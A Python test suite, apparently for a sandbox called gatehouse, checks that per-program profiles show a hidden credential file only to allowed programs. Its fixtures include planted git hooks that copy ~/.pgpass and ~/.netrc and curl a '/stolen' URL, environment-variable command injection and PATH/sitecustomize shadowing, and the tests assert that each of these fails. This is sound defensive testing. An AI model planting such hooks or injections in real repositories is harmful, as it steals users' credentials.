#!/usr/bin/env python3
"""Programs that rules move into profiles: what they may there, what their callers may not, and that nobody notices.

    tests/sandbox/profiles.py GATEHOUSE [--only WORD]

The secret is a file that every sandbox hides; the profile `open` shows it.
"""

import base64
import contextlib
import http.server
import json
import os
import pathlib
import pty
import re
import select
import shutil
import signal
import ssl
import subprocess
import sys
import threading
import time

import net_scene as net

RULES = """version: 1
programs:
  tool: {{paths: ["{path}/bin/tool"], runs: [python3], writable: ok}}{programs}
profiles:
  open: {{extends: workspace-write, unhide: ["~/.pgpass"], inherit: [git]}}
  closed: {{extends: read-only, network: none}}
  everything: {{extends: workspace-write, unhide: ["~/.pgpass"], inherit: ["*"]}}
  online: {{extends: workspace-write, network: {{allow: ["127.0.0.0/8", "allowed.example:{port}"]}}}}
rules:
{rules}
"""
PYTHON = "{id: python, event: exec, when: {program: python3}, verdict: allow, profile: open}"
PLAIN = "{id: python, event: exec, when: {program: python3}, verdict: allow}"
SECRET = "the-secret-word"
LOOK = 'import os\ntry: print(open(os.path.expanduser("~/.pgpass")).read())\nexcept OSError: print("hidden")\n'


class Place(net.Place):
    def __init__(self, gatehouse):
        super().__init__(gatehouse)
        (self.home / ".pgpass").write_text(SECRET)
        (self.workspace / "look.py").write_text(LOOK)
        (self.path / "bin").mkdir()
        self.port, self.programs = 1, ""
        self.rules(PYTHON)

    def rules(self, *rules):
        text = RULES.format(path=self.path, port=self.port, programs=self.programs, rules="\n".join(f"  - {rule}" for rule in rules))
        (self.path / "rules.yaml").write_text(text)

    def shell(self, text, **options):
        return self.run("/bin/bash", "-c", text, network=options.pop("network", "none"), **options)

    def out(self, text, **options):
        done = self.shell(text, **options)
        assert done.returncode == 0, done
        return done.stdout.strip()


def below(pid):
    """The processes that hang below one, by their numbers and names."""
    found, children = {}, {}
    for entry in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            stat = pathlib.Path(f"/proc/{entry}/stat").read_text()
            children.setdefault(int(stat[stat.rindex(")") + 2:].split()[1]), []).append((int(entry), stat[stat.index("(") + 1:stat.rindex(")")]))
    todo = [pid]
    while todo:
        for child, name in children.get(todo.pop(), []):
            found[child] = name
            todo.append(child)
    return found


def is_there(pid):
    with contextlib.suppress(OSError):
        return pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] != "Z"
    return False


class Started:
    """A command whose processes are looked at."""

    def __init__(self, place, text, network="none"):
        self.process = subprocess.Popen(place.command(["/bin/bash", "-c", text], network), cwd=place.workspace, env=place.env,
                                        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.process.kill()
        self.process.wait()

    def find(self, name):
        found = []
        net.until(lambda: found.extend(pid for pid, word in below(self.process.pid).items() if word == name) or found)
        return found[0]


def the_profile_is_the_programs_alone(place):
    assert place.out("cat ~/.pgpass 2>&1; python3 look.py; cat ~/.pgpass 2>&1 || true").count(SECRET) == 1
    record = next(record for record in place.records("decided") if record.get("rule") == "python")
    assert record["profile"] == "open", record
    place.rules(PLAIN)
    assert place.out("python3 look.py") == "hidden", "the profile shows nothing"


def a_narrower_profile_takes_away(place):
    place.rules("{id: python, event: exec, when: {program: python3}, verdict: allow, profile: closed}")
    done = place.shell("echo a > a; python3 -c 'open(\"b\", \"w\")'")
    assert "Read-only file system" in done.stderr and (place.workspace / "a").exists() and not (place.workspace / "b").exists(), done


def words_directory_umask_and_status_are_the_callers(place):
    (place.workspace / "sub dir").mkdir()
    said = place.out("""cd 'sub dir'; umask 027; trap '' HUP; python3 -c 'import os,sys,signal
print(sys.argv[1:], os.getcwd() == sys.argv[3], oct(os.umask(0)), signal.getsignal(signal.SIGHUP) == signal.SIG_IGN)' "a b" '' "$PWD"
python3 -c 'raise SystemExit(42)'; echo $?; python3 -c 'import os; os.kill(os.getpid(), 15)'; echo $?
python3 -c 'import os; os.kill(os.getpid(), 9)'; echo $?; python3 -c 'import os; os.abort()'; echo $?""")
    assert said.splitlines()[0].endswith("True 0o27 True") and said.splitlines()[1:] == ["42", "143", "137", "134"], said


def standard_descriptors_carry_everything(place):
    copy = "import sys,shutil; shutil.copyfileobj(sys.stdin.buffer, sys.stdout.buffer); print(len(sys.argv), file=sys.stderr)"
    said = place.out(f"head -c 30000000 /dev/zero | tr '\\0' x | python3 -c '{copy}' 2> err | md5sum; cat err; head -c 30000000 /dev/zero | tr '\\0' x | md5sum")
    one, err, same = said.splitlines()
    assert one == same and err == "1", said
    assert place.out("python3 -c 'import os; print(sorted(os.listdir(\"/proc/self/fd\")))' 5< look.py 6> out") == "['0', '1', '2', '3']"
    assert place.out("python3 -c 'print(input(), end=\"\")' <<< word > there; cat there") == "word"


def pipelines_and_jobs_go_on(place):
    assert place.out("yes | python3 -c 'import sys\nfor line in sys.stdin: print(line)' 2>/dev/null | head -1; echo ${PIPESTATUS[*]}").splitlines()[1].startswith("141 ")
    assert place.out("python3 -c 'raise SystemExit(5)' & wait $!; echo $?") == "5"
    assert place.out("for n in 1 2 3 4 5; do python3 -c \"print($n)\" & done; wait").split().__len__() == 5
    assert place.out("python3 -c 'import time; time.sleep(60)' & sleep 0.5; kill %1; wait $!; echo $?") == "143"
    handled = "import signal,sys,time; signal.signal(signal.SIGTERM, lambda *_: sys.exit(7)); print(1, flush=True); time.sleep(60)"
    assert place.out(f"python3 -c '{handled}' > up & while ! [ -s up ]; do sleep 0.1; done; kill $!; wait $!; echo $?") == "7"
    assert place.out("timeout 0.5 python3 -c 'import time; time.sleep(60)'; echo $?") == "124"
    assert place.out("echo 'import subprocess as s\nprint(s.run([\"python3\",\"look.py\"],capture_output=True,text=True).stdout)' > p.py; " "/usr/bin/env perl -e 'print `python3 look.py`'").strip() == SECRET


def callers_of_all_kinds_start_it(place):
    (place.workspace / "Makefile").write_text("all: a b\na b:\n\t@python3 look.py\n")
    for text, times in (("make -s -j2", 2), ("seq 6 | xargs -P3 -n1 python3 look.py", 6), ("find . -name look.py -exec python3 {} ';'", 1),
                        ("perl -e 'system(\"python3\", \"look.py\")'", 1), ("env -i /usr/bin/python3 $PWD/look.py", 1), ("setsid -w python3 look.py", 1),
                        ("nohup python3 look.py 2> err", 1), ("exec python3 look.py", 1), ("echo $(python3 look.py)", 1), ("nice timeout 20 python3 look.py", 1)):
        assert place.out(text).split().count(SECRET) == times, text
    done = place.run("/usr/bin/python3", "look.py", network="none")
    assert done.stdout.strip() == SECRET and done.returncode == 0, done


def stop_and_continue_reach_the_program(place):
    count = "import time\nfor n in range(80): print(n, flush=True); time.sleep(0.05)"
    said = place.out(f"python3 -c '{count}' > n & while ! [ -s n ]; do sleep 0.1; done; kill -STOP $!; sleep 0.5; wc -l < n; sleep 0.5; wc -l < n; kill -CONT $!; wait $!; wc -l < n; echo $?")
    first, second, last, status = said.split()
    assert first == second and 0 < int(first) < 80 and last == "80" and status == "0", said


ENVIRONMENT = """cat > sitecustomize.py <<< 'print("planted")'
mkdir -p bin; printf '#!/bin/sh\\necho shadowed\\n' > bin/true; chmod +x bin/true
export PYTHONPATH=$PWD PATH=$PWD/bin:$PATH GIT_SSH_COMMAND=x LD_LIBRARY_PATH=$PWD HOME=$PWD OTHER=1 LC_TIME=C.UTF-8
python3 -c 'import os,subprocess
env = os.environ
print([n for n in ("PYTHONPATH","GIT_SSH_COMMAND","LD_LIBRARY_PATH","OTHER") if n in env], env["HOME"] == os.getcwd(), env.get("LC_TIME"), flush=True)
subprocess.run("true")'"""


def the_environment_is_the_owners(place):
    assert place.out(ENVIRONMENT) == "[] False C.UTF-8"
    place.rules(PLAIN)
    said = place.out(ENVIRONMENT)
    assert "planted" in said and "shadowed" in said, said


def git_does_as_the_callers_environment_says_only_without(place):
    attack = "GIT_SSH_COMMAND='sh -c \"echo planted >&2\"' git ls-remote ssh://nowhere.example/x 2>&1; GIT_EXTERNAL_DIFF='echo planted' git diff --no-index look.py rest 2>&1; true"
    (place.workspace / "rest").write_text("x")
    place.rules("{id: git, event: exec, when: {program: git}, verdict: allow, profile: open}")
    assert "planted" not in place.out(attack)
    place.rules(PLAIN)
    assert place.out(attack).count("planted") == 2


HOOK = """git init -q . 2>&1; git config user.name a; git config user.email a@b; mkdir hooks
printf '#!/bin/sh\\ncat ~/.pgpass > leaked; touch ran; git status --short > state; true\\n' > hooks/pre-commit; chmod +x hooks/pre-commit
git add look.py; git -c core.hooksPath=$PWD/hooks commit -q -m x; cat leaked"""


def a_hook_does_not_inherit(place):
    git = "{{id: git, event: exec, when: {{program: git, args: [commit]}}, verdict: allow, profile: {}}}"
    place.rules(git.format("open"))
    said = place.shell(HOOK)
    assert (place.workspace / "ran").exists() and SECRET not in said.stdout, said
    assert "look.py" in (place.workspace / "state").read_text(), "what the hook starts does not work"
    shutil.rmtree(place.workspace / ".git")
    shutil.rmtree(place.workspace / "hooks")
    place.rules(git.format("everything"))
    assert SECRET in place.shell(HOOK).stdout, "the hook would not see it in the profile either"


def children_return_but_for_those_that_inherit(place):
    shell = "import subprocess; print(subprocess.run([\"/bin/sh\", \"-c\", \"cat ~/.pgpass || echo none\"], capture_output=True, text=True).stdout)"
    assert place.out(f"python3 -c '{shell}'").strip() == "none"
    rule = "{id: python, event: exec, when: {program: python3}, verdict: allow, profile: everything}"
    place.rules(rule)
    assert place.out(f"python3 -c '{shell}'").strip() == SECRET
    for copy in ("cp /usr/bin/python3 mine; ./mine look.py", "ln -s /usr/bin/python3 linked; perl -e 'exec {\"/usr/bin/perl\"} \"python3\", \"-e\", \"print `cat ~/.pgpass`\"'"):
        assert SECRET not in place.shell(copy).stdout, copy


def a_script_and_what_runs_it_are_one_program(place):
    tool = place.path / "bin" / "tool"
    tool.write_text("#!/usr/bin/env python3\n" + LOOK + "print(os.path.basename(__file__))\n")
    tool.chmod(0o755)
    place.rules("{id: tool, event: exec, when: {program: tool}, verdict: allow, profile: open}")
    assert place.out(f"{tool}").split() == [SECRET, "tool"]


def what_cannot_be_entered_is_denied(place):
    done = place.shell("mkdir /tmp/mine; cd /tmp/mine; python3 -c 'print(1)'; echo $?")
    assert done.stdout.split() == ["126"] and "gate.profile" in done.stderr and "/tmp/mine" in done.stderr, done
    assert place.denials()[0]["rule"] == "gate.profile", place.denials()
    place.rules("{id: python, event: exec, when: {program: python3}, verdict: allow, profile: unconfined}")
    done = place.shell("python3 -c 'open(\"/etc/gatehouse-test\", \"w\")' 2>&1; python3 look.py")
    assert done.stdout.strip().endswith(SECRET), done
    assert any(record.get("profile") == "unconfined" for record in place.records("decided"))


def a_project_chooses_no_profile(place):
    (place.workspace / ".gatehouse").mkdir()
    (place.workspace / ".gatehouse" / "rules.yaml").write_text(
        "version: 1\nrules:\n  - {id: mine, event: exec, when: {program: python3}, verdict: allow, profile: unconfined}\n")
    command = [place.gatehouse, "policy", "trust"]
    subprocess.run(command, cwd=place.workspace, env=place.env, input="yes\n", text=True, capture_output=True, check=False)
    done = subprocess.run([place.gatehouse, "exec", "--", "python3", "look.py"], cwd=place.workspace, env=place.env, text=True, capture_output=True, timeout=60, check=False)
    assert done.stdout.strip() == "hidden", done


def it_ends_with_its_stand_in_and_with_gatehouse(place):
    sleep = "exec -a sleeper python3 -c 'import time; open(\"up\", \"w\"); time.sleep(300)'"
    for end in ("stand-in", "gatehouse", "session"):
        (place.workspace / "up").unlink(missing_ok=True)
        with Started(place, f"({sleep}) & echo $!; wait; echo over") as started:
            net.until((place.workspace / "up").exists)
            program = started.find("python3")
            stand_in = next(pid for pid, _ in below(started.process.pid).items()
                            if pathlib.Path(f"/proc/{pid}/exe").exists() and "gatehouse-stub" in os.readlink(f"/proc/{pid}/exe"))
            if end == "stand-in":
                os.kill(stand_in, signal.SIGKILL)
            else:
                started.process.send_signal(signal.SIGKILL if end == "gatehouse" else signal.SIGTERM)
            net.until(lambda program=program, stand_in=stand_in: not is_there(program) and not is_there(stand_in))


def nobody_inside_gets_hold_of_it(place):
    look = "perl -e 'print open(my $f, \"+<\", \"/proc/$ARGV[0]/mem\") ? \"open\" : \"closed\", scalar(() = glob \"/proc/$ARGV[0]/fd/*\"), \"\\n\"' "
    said = place.out(f"""python3 -c 'import time; open("up", "w"); time.sleep(60)' 7< look.py & stand_in=$!; sleep 60 & other=$!
while ! [ -e up ]; do sleep 0.1; done; {look} $stand_in; {look} $other; pgrep -c python3; kill $stand_in $other; wait $stand_in; echo $?""")
    first, second, count, status = said.split()
    assert first == "closed0" and second.startswith("open") and second != "open0" and count == "0" and status == "143", said


def what_rules_deny_of_files_it_cannot_open_either(place):
    (place.workspace / ".env").write_text("key")
    read = "python3 -c 'print(open(\".env\").read())' 2>&1 | tail -1"
    assert place.out(read) == "key"
    place.rules(PYTHON, '{id: env, event: read, when: {path: "**/.env"}, verdict: deny, reason: No.}')
    assert "PermissionError" in place.out(read)


def a_rule_denies_what_it_starts_too(place):
    place.rules("{id: python, event: exec, when: {program: python3}, verdict: allow, profile: everything}",
                "{id: id, event: exec, when: {program: id, ancestor: {program: bash}}, verdict: deny, reason: No ids.}")
    done = place.shell("python3 -c 'import subprocess; subprocess.run([\"id\"])'")
    assert "PermissionError" in done.stderr and "by: bash > python3 > id" in done.stderr and "In profile everything." in done.stderr, done
    assert place.denials()[0]["profile"] == "everything" and place.denials()[0]["chain"] == ["bash", "python3", "id"], place.denials()


def what_was_judged_is_what_is_moved(place):
    compiler = shutil.which("c++")
    if compiler is None:
        return
    race, programs = pathlib.Path(__file__).resolve().parent.parent / "race", place.path / "programs"
    programs.mkdir()
    build = [compiler, "-std=c++20", "-D_GNU_SOURCE", "-O1", "-pthread"]
    subprocess.run([*build, f'-DPLACE="{programs}/"', race / "racer.cc", "-o", programs / "racer"], check=True)
    for name in ("allowed__", "forbidden"):
        subprocess.run([*build, f'-DNAME="{name}"', race / "mark.cc", "-o", programs / name], check=True)
    kinds = "for kind in vfork execveat spawn thread; do %s $kind 150; done" % (programs / "racer")
    place.programs = "".join(f'\n  {name}: {{paths: ["{programs / name}"]}}' for name in ("allowed__", "forbidden"))
    place.rules("{id: allowed, event: exec, when: {program: allowed__}, verdict: allow, profile: open}",
                "{id: forbidden, event: exec, when: {program: forbidden}, verdict: deny, reason: No.}",
                "{id: word, event: exec, when: {program: allowed__, args: [forbidden]}, verdict: deny, reason: No.}")
    place.out(kinds)
    ran = {path.name: path.stat().st_size for path in place.workspace.glob("*.*") if path.suffix != ".py"}
    report = json.loads((place.path / "report.json").read_text())["execs"]
    # A word that is read while it is written may be half of it: then this is what was judged, and what ran.
    assert all(name.startswith("allowed__.") and name != "allowed__.forbidden" for name in ran), ran
    assert ran["allowed__."] > 20 and report["moved"] >= ran["allowed__."], (ran, report)


def without_namespaces_it_is_denied(place):
    without = pathlib.Path(__file__).resolve().parent / "without.py"
    done = subprocess.run([sys.executable, without, "namespaces", "--", *place.command(["/bin/bash", "-c", "python3 look.py; echo $?"], "none")],
                          cwd=place.workspace, env=place.env, text=True, stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False)
    assert done.stdout.split() == ["126"] and "has one sandbox only" in done.stderr, done


def another_gatehouse_in_a_profile_is_a_guest(place):
    place.rules("{id: python, event: exec, when: {program: python3}, verdict: allow, profile: everything}",
                "{id: id, event: exec, when: {program: id}, verdict: deny, reason: No ids.}")
    inner = f"import subprocess; print(subprocess.run([\"{place.gatehouse}\", \"exec\", \"--\", \"sh\", \"-c\", \"cat ~/.pgpass; id\"], capture_output=True, text=True))"
    done = place.shell(f"python3 -c '{inner}'")
    assert SECRET in done.stdout and "gatehouse exec > sh > id" in done.stderr, done


def in_every_mode_it_is_another_sandbox(place):
    # Of root's host files none is safe from root, so that no rule that allows matches there.
    for mode in ("read-only", *(["danger-full-access"] if os.geteuid() else [])):
        place.rules("{id: python, event: exec, when: {program: python3}, verdict: allow, profile: closed}")
        words = place.command(["/bin/bash", "-c", "python3 -c 'open(\"made\", \"w\")' 2>&1 | tail -1; python3 look.py"], "none")
        words[2:2] = ["--mode", mode]
        words = [word for word in words if word not in ("--network", "none")] if mode == "danger-full-access" else words
        done = subprocess.run(words, cwd=place.workspace, env=place.env, text=True, stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False)
        assert "Read-only file system" in done.stdout and done.stdout.split()[-1] == "hidden", (mode, done)


def many_leave_nothing_behind(place):
    text = "for n in $(seq 100); do python3 -c pass || exit 1; done; touch done; while ! [ -e stop ]; do sleep 0.1; done"
    with Started(place, text) as started:
        first = None
        fds = lambda: len(os.listdir(f"/proc/{started.process.pid}/fd"))
        time.sleep(1)
        first = fds()
        net.until((place.workspace / "done").exists, 120)
        net.until(lambda: list(below(started.process.pid).values()).count("gatehouse-init") == 1)
        assert fds() <= first + 4, (first, fds())
        (place.workspace / "stop").touch()
        assert started.process.wait(30) == 0


def a_state_that_changes_ends_it_and_names_it(place):
    with Started(place, "python3 -c 'import time; open(\"up\", \"w\"); time.sleep(300)'; echo $? > status") as started:
        net.until((place.workspace / "up").exists)
        program = started.find("python3")
        done = subprocess.run([place.gatehouse, "state", "set", "--pid", str(started.process.pid), "--mode", "read-only"], env=place.env,
                              cwd=place.workspace, text=True, capture_output=True, timeout=20, check=False)
        assert done.returncode == 0 and not is_there(program), done
        _, said = started.process.communicate(timeout=30)
    assert "ended, since it ran in a profile: python3" in said + done.stdout + done.stderr, (said, done)
    done = place.shell("python3 look.py")
    assert done.stdout.strip() == SECRET, done


def what_is_said_binds_profiles_also_where_the_session_had_no_more(place):
    """A network that a session has not got itself is taken from its profiles all the same."""
    word = ["--network", "none"]
    for profile in ("online", "unconfined"):
        place.rules(f"{{id: python, event: exec, when: {{program: python3}}, verdict: allow, profile: {profile}}}")
        with Started(place, "python3 -c 'import time; open(\"up\", \"w\"); time.sleep(300)'; until [ -e go ]; do sleep 0.01; done; "
                     "python3 -c 'open(\"again\", \"w\").write(open(\"/proc/net/dev\").read())'; echo $? > status") as started:
            net.until((place.workspace / "up").exists)
            program = started.find("python3")
            done = subprocess.run([place.gatehouse, "state", "set", "--pid", str(started.process.pid), *word], env=place.env,
                                  cwd=place.workspace, text=True, capture_output=True, timeout=20, check=False)
            assert done.returncode == 0 and not is_there(program), (profile, done)
            (place.workspace / "go").touch()
            net.until((place.workspace / "status").exists)
            _, said = started.process.communicate(timeout=30)
        assert "ended, since it ran in a profile: python3" in said, (profile, said)
        ended = [record["said"] for record in place.records("state")]
        assert len(ended) == 1 and "ended, since it ran in a profile: python3" in ended[0][0], (profile, ended)
        again = place.workspace / "again"
        if profile == "online":
            assert again.read_text().count(":") == 1, again.read_text()  # the loopback
        else:
            assert not again.exists() and (place.workspace / "status").read_text() == "126\n" and "less is allowed by now" in said, said
        for name in ("up", "go", "status", "again"):
            (place.workspace / name).unlink(missing_ok=True)


def a_profile_reaches_its_hosts_and_the_session_does_not(place):
    server = net.Server("one")
    place.port = server.port
    talk = f"import socket; s = socket.create_connection((\"allowed.example\", {server.port}), 20); s.sendall(b\"x\"); print(s.recv(9).decode())"
    place.rules("{id: python, event: exec, when: {program: python3}, verdict: allow, profile: online}")
    assert place.out(f"python3 -c '{talk}'", network="none").startswith("one"), place.denials()
    assert place.records("decided")[-1]["profile"] == "online", place.records("decided")[-1]
    other = talk.replace("allowed", "other")
    assert place.shell(f"python3 -c '{other}'").returncode == 1 and server.came == 1
    place.rules(PLAIN)
    assert place.shell(f"python3 -c '{talk}'").returncode == 1 and server.came == 1


class GitServer(http.server.BaseHTTPRequestHandler):
    """A repository over https for who knows the password."""

    def answer(self):
        self.came.append(self.path)
        if self.headers.get("Authorization") != "Basic " + base64.b64encode(b"me:" + SECRET.encode()).decode():
            self.send_response(401)
            self.send_header("WWW-Authenticate", 'Basic realm="git"')
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        path, _, query = self.path.partition("?")
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.headers.get("Transfer-Encoding") == "chunked":
            while size := int(self.rfile.readline(), 16):
                body += self.rfile.read(size)
                self.rfile.readline()
        env = {"GIT_PROJECT_ROOT": self.root, "GIT_HTTP_EXPORT_ALL": "1", "PATH_INFO": path, "QUERY_STRING": query, "REQUEST_METHOD": self.command,
               "CONTENT_TYPE": self.headers.get("Content-Type", ""), "REMOTE_USER": "me", "PATH": os.environ["PATH"], "CONTENT_LENGTH": str(len(body)),
               "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", "")}
        done = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True, check=False)
        head, _, rest = done.stdout.partition(b"\r\n\r\n")
        lines = [line.split(": ", 1) for line in head.decode().splitlines()]
        self.send_response(int(dict(lines).get("Status", "200").split()[0]))
        for name, value in lines:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(rest)))
        self.end_headers()
        self.wfile.write(rest)

    do_GET = do_POST = answer

    def log_message(self, *_):
        pass


def git_server(place):
    """Its port; what was asked of it is in GitServer.came."""
    key, certificate = place.path / "key.pem", place.path / "certificate.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key, "-out", certificate, "-days", "2", "-subj",
                    "/CN=allowed.example", "-addext", "subjectAltName=DNS:allowed.example"], check=True, capture_output=True)
    certificate.chmod(0o644)
    GitServer.root, GitServer.came = str(place.path / "remote"), []
    subprocess.run(["git", "init", "-q", "--bare", place.path / "remote" / "r.git"], check=True, env=place.env)
    subprocess.run(["git", "-C", place.path / "remote" / "r.git", "config", "http.receivepack", "true"], check=True, env=place.env)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), GitServer)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    (place.home / ".gitconfig").write_text(f"[http]\nsslCAInfo={certificate}\n[user]\nname=me\nemail=me@example\n[init]\ndefaultBranch=main\n")
    (place.home / ".netrc").write_text(f"machine allowed.example login me password {SECRET}\n")
    (place.home / ".netrc").chmod(0o600)
    return server.server_port


def git_reaches_its_remote_and_what_it_starts_does_not(place):
    if shutil.which("openssl") is None:
        return
    banner = []
    ssh_server = net.Server("ssh", talk=lambda peer: banner.append(peer.recv(100)))
    port = git_server(place)
    here = '{id: here, event: net, when: {host: 127.0.0.0/8}, verdict: allow}'
    place.rules("{id: remote, event: exec, when: {program: git, args: [[push, fetch, pull, clone, ls-remote]]}, verdict: allow, profile: git-remote}",
                f"{{id: forge, event: net, when: {{host: allowed.example, port: [{port}, {ssh_server.port}]}}, verdict: allow}}", here)
    url = f"https://allowed.example:{port}/r.git"
    done = place.shell(f"""git init -q && git add look.py && git commit -q -m one && git remote add origin {url} &&
git push -q -u origin main && git fetch -q && git clone -q {url} copy && ls copy && git -C copy log --format=%s""")
    assert done.returncode == 0 and done.stdout.split() == ["look.py", "one"], done
    came = len(GitServer.came)
    planted = "mkdir hooks; printf '#!/bin/sh\\ncurl -sk https://allowed.example:%d/stolen; cat ~/.netrc > leaked; true\\n' > hooks/pre-push; chmod +x hooks/pre-push"
    done = place.shell(planted % port + "; echo >> look.py; git commit -qam two; git -c core.hooksPath=hooks push -q; git log --format=%s origin/main; cat leaked")
    assert done.stdout.split()[:2] == ["two", "one"] and SECRET not in done.stdout, done
    assert len(GitServer.came) > came and not any("stolen" in path for path in GitServer.came), GitServer.came
    assert place.shell(f"git -c alias.x='!curl -sk https://allowed.example:{port}/stolen' x; curl -sk https://allowed.example:{port}/stolen").returncode != 0
    assert not any("stolen" in path for path in GitServer.came), GitServer.came
    place.shell(f"git ls-remote ssh://me@allowed.example:{ssh_server.port}/r.git")
    assert banner and banner[0].startswith(b"SSH-2.0-"), banner


def tests_run_without_a_network_whatever_they_start(place):
    server = net.Server("one")
    place.rules("{id: all, event: net, verdict: allow}", "{id: here, event: net, when: {host: 127.0.0.0/8}, verdict: allow}",
                "{id: suite, event: exec, when: {program: python3}, verdict: allow, profile: test}")
    curl = f"/usr/bin/perl -MIO::Socket -e 'print IO::Socket::INET->new(\"allowed.example:{server.port}\") ? 1 : 0'"
    (place.workspace / "suite.py").write_text(f"import subprocess\nprint(subprocess.run({['/bin/sh', '-c', curl]!r}, capture_output=True, text=True).stdout)\n")
    assert place.out("python3 suite.py; " + curl, network="allowlist").split() == ["0", "1"]


class Terminal:
    """gatehouse exec around an interactive bash."""

    def __init__(self, place):
        self.pid, self.fd = pty.fork()
        if self.pid == 0:
            os.chdir(place.workspace)
            os.execve(place.gatehouse, list(map(str, place.command(["/bin/bash", "--norc", "--noprofile", "-i"], "none"))), {**place.env, "PS1": "ready> "})
        self.seen = ""
        self.expect("ready> |bash-|\\$ ")

    def expect(self, pattern, seconds=20):
        deadline = time.monotonic() + seconds
        while not (found := re.search(pattern, self.seen)):
            left = deadline - time.monotonic()
            assert left > 0 and select.select([self.fd], [], [], left)[0], f"waited for {pattern!r}, saw {self.seen!r}"
            self.seen += os.read(self.fd, 4096).decode(errors="replace")
        self.seen = self.seen[found.end():]

    def send(self, text):
        os.write(self.fd, text.encode())

    def close(self):
        os.kill(self.pid, signal.SIGKILL)
        os.waitpid(self.pid, 0)
        os.close(self.fd)


def a_terminals_keys_and_jobs_are_the_kernels(place):
    (place.workspace / "wait.py").write_text("import time\nprint('u' + 'p', flush=True)\ntime.sleep(60)\n")
    (place.workspace / "ask.py").write_text("print('as' + 'k', flush=True)\nprint('got ' + open('/dev/tty').readline())\n")
    terminal = Terminal(place)
    try:
        terminal.send("python3 wait.py; echo status $?\n")
        terminal.expect("[\n\r]up")
        terminal.send("\x03")
        terminal.expect("status 130|KeyboardInterrupt")
        terminal.send("\npython3 wait.py | cat\n")
        terminal.expect("[\n\r]up")
        terminal.send("\x1a")
        terminal.expect("Stopped")
        terminal.send("jobs; echo lis''ted; fg\n")
        terminal.expect("Stopped.*python3 wait.py(.|\n)*listed")
        terminal.expect("python3 wait.py")
        time.sleep(0.3)
        terminal.send("\x03")
        terminal.send("echo ag''ain\n")
        terminal.expect("again")
        terminal.send("python3 ask.py\n")
        terminal.expect("[\n\r]ask")
        terminal.send("word\n")
        terminal.expect("got word")
        terminal.send("python3 ask.py & sleep 1; echo fore''ground\n")
        terminal.expect("foreground")
        terminal.send("jobs; echo lis''ted\n")
        terminal.expect("Stopped(.|\n)*listed")
        terminal.send("kill %1; kill -CONT %1; wait %1; echo sta''tus $?\n")
        terminal.expect("status 143")
    finally:
        terminal.close()


def a_served_session_has_them_too(place):
    served = place.serve("--rules", place.path / "rules.yaml")
    assert SECRET in served.shell("python3 look.py")[0] and SECRET not in served.shell("cat ~/.pgpass")[0]
    assert "timed out" in served.shell("python3 -c 'import time; time.sleep(60)'", timeout_s=1)[0]
    net.until(lambda: "python3" not in below(served.process.pid).values())
    assert SECRET in served.shell("python3 look.py | cat")[0]


TESTS = [the_profile_is_the_programs_alone, a_narrower_profile_takes_away, words_directory_umask_and_status_are_the_callers,
         standard_descriptors_carry_everything, pipelines_and_jobs_go_on, callers_of_all_kinds_start_it, stop_and_continue_reach_the_program, the_environment_is_the_owners,
         git_does_as_the_callers_environment_says_only_without, a_hook_does_not_inherit, children_return_but_for_those_that_inherit,
         a_script_and_what_runs_it_are_one_program, what_cannot_be_entered_is_denied, a_project_chooses_no_profile,
         it_ends_with_its_stand_in_and_with_gatehouse, nobody_inside_gets_hold_of_it, what_rules_deny_of_files_it_cannot_open_either,
         a_rule_denies_what_it_starts_too, what_was_judged_is_what_is_moved, without_namespaces_it_is_denied,
         another_gatehouse_in_a_profile_is_a_guest, in_every_mode_it_is_another_sandbox, many_leave_nothing_behind, a_state_that_changes_ends_it_and_names_it,
         what_is_said_binds_profiles_also_where_the_session_had_no_more,
         a_profile_reaches_its_hosts_and_the_session_does_not, git_reaches_its_remote_and_what_it_starts_does_not,
         tests_run_without_a_network_whatever_they_start, a_terminals_keys_and_jobs_are_the_kernels, a_served_session_has_them_too]


if __name__ == "__main__":
    sys.exit(net.main("profiles.py", TESTS, Place))
